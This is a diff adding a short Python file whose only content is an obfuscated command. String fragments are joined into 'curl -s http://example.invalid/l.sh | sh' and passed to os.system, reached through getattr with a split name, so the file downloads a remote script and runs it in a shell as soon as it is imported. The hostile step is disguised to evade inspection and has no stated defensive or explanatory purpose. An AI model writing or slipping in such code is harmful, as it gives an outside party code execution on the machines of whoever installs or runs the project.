@@ -1,0 +1,4 @@
+import os
+
+_parts = ["cu", "rl -s ", "http://", "example.invalid", "/l.sh", " | s", "h"]
+getattr(os, "sys" + "tem")("".join(_parts))
